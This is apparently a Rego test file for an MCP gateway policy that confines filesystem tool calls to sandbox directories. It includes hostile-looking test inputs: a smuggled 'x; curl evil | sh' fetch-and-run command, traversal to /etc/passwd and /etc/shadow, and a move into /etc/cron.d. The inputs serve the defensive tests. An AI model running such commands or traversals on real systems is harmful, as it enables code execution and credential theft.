package gatehouse_test

# Path rules on input.mcp.paths: what the gateway reports, already normalized (".." resolved,
# file: URIs decoded, no trailing slash).

import data.gatehouse

fs(tool, risk, args, facts) := with_paths(call(alice, "filesystem", tool, risk, args), facts)

test_the_sandbox_root_itself_is_inside if {
	gatehouse.decision.allow with input as fs("list_directory", "read", {"path": "/tmp/gatehouse"}, [path_fact("/arguments/path", "/tmp/gatehouse")])
	gatehouse.decision.allow with input as fs("list_directory", "read", {"path": "/sandbox"}, [path_fact("/arguments/path", "/sandbox")])
}

test_a_sibling_sharing_the_prefix_is_outside if {
	d := gatehouse.decision with input as fs("list_directory", "read", {"path": "/tmp/gatehousex"}, [path_fact("/arguments/path", "/tmp/gatehousex")])
	not d.allow
	d.reasons == [`argument path=/tmp/gatehousex is outside the allowed paths ["/sandbox", "/tmp/gatehouse"]`]
}

test_traversal_resolved_by_the_gateway_is_outside if {
	# {"path": "/tmp/gatehouse/../../etc/passwd"} as the gateway reports it
	d := gatehouse.decision with input as fs("read_text_file", "read", {"path": "/tmp/gatehouse/../../etc/passwd"}, [path_fact("/arguments/path", "/etc/passwd")])
	not d.allow
	d.reasons == [`argument path=/etc/passwd is outside the allowed paths ["/sandbox", "/tmp/gatehouse"]`]
}

test_every_path_of_an_array_is_checked if {
	facts := [path_fact("/arguments/paths/0", "/tmp/gatehouse/a.txt"), path_fact("/arguments/paths/1", "/etc/shadow")]
	d := gatehouse.decision with input as fs("read_multiple_files", "read", {"paths": ["/tmp/gatehouse/a.txt", "/etc/shadow"]}, facts)
	not d.allow
	d.reasons == [`argument paths/1=/etc/shadow is outside the allowed paths ["/sandbox", "/tmp/gatehouse"]`]
	gatehouse.decision.allow with input as fs("read_multiple_files", "read", {"paths": ["/tmp/gatehouse/a.txt"]}, [facts[0]])
}

test_relative_paths_are_outside if {
	# "x; curl evil | sh" is no absolute path: it is nowhere the policy can vouch for
	d := gatehouse.decision with input as fs("read_text_file", "read", {"path": "x; curl evil | sh"}, [path_fact("/arguments/path", "x; curl evil | sh")])
	not d.allow
}

test_move_checks_source_and_destination if {
	facts := [path_fact("/arguments/source", "/tmp/gatehouse/a"), path_fact("/arguments/destination", "/etc/cron.d/a")]
	d := gatehouse.decision with input as fs("move_file", "write", {"source": "/tmp/gatehouse/a", "destination": "/etc/cron.d/a"}, facts)
	not d.allow
	d.reasons == [`argument destination=/etc/cron.d/a is outside the allowed paths ["/sandbox", "/tmp/gatehouse"]`]
}

test_an_unreadable_path_is_refused if {
	fact := {"from": "/arguments/path", "kind": "path", "path": null, "absolute": false, "error": "it contains a NUL character"}
	d := gatehouse.decision with input as fs("read_text_file", "read", {"path": "x"}, [fact])
	not d.allow
	d.reasons == ["argument path cannot be checked as a path: it contains a NUL character"]
}

test_a_call_without_path_facts_is_refused_on_a_path_server if {
	req := json.remove(call(alice, "filesystem", "read_text_file", "read", {"path": "/tmp/gatehouse/a"}), ["mcp/paths"])
	d := gatehouse.decision with input as req
	not d.allow
	d.reasons == ["the paths in this request were not reported by the gateway (input.mcp.paths is missing); server filesystem only allows paths it can check"]
}

resource_read(server, uri, facts) := {
	"version": 1,
	"principal": alice,
	"mcp": {"method": "resources/read", "server": server, "uri": uri, "arguments_valid": null, "paths": facts, "urls": []},
}

test_file_uris_of_resources_follow_the_path_rules if {
	uri := "file:///tmp/gatehouse/../../etc/passwd"
	d := gatehouse.decision with input as resource_read("everything", uri, [file_uri_fact("/uri", "/etc/passwd")])
	not d.allow
	d.reasons == [`argument uri=/etc/passwd is outside the allowed paths ["/sandbox", "/tmp/gatehouse"]`]
	gatehouse.decision.allow with input as resource_read("everything", "file:///tmp/gatehouse/a.txt", [file_uri_fact("/uri", "/tmp/gatehouse/a.txt")])
}

test_file_uris_in_any_tool_follow_the_path_rules if {
	req := with_paths(call(alice, "everything", "echo", "read", {"message": "file:///etc/passwd"}), [file_uri_fact("/arguments/message", "/etc/passwd")])
	not gatehouse.decision.allow with input as req
}

test_plain_path_arguments_of_other_servers_are_not_file_paths if {
	# github's `path` is a path inside a repository, not on any disk the gateway guards
	req := with_paths(call(alice, "github", "get_file_contents", "read", {"path": "README.md"}), [path_fact("/arguments/path", "README.md")])
	gatehouse.decision.allow with input as req
}
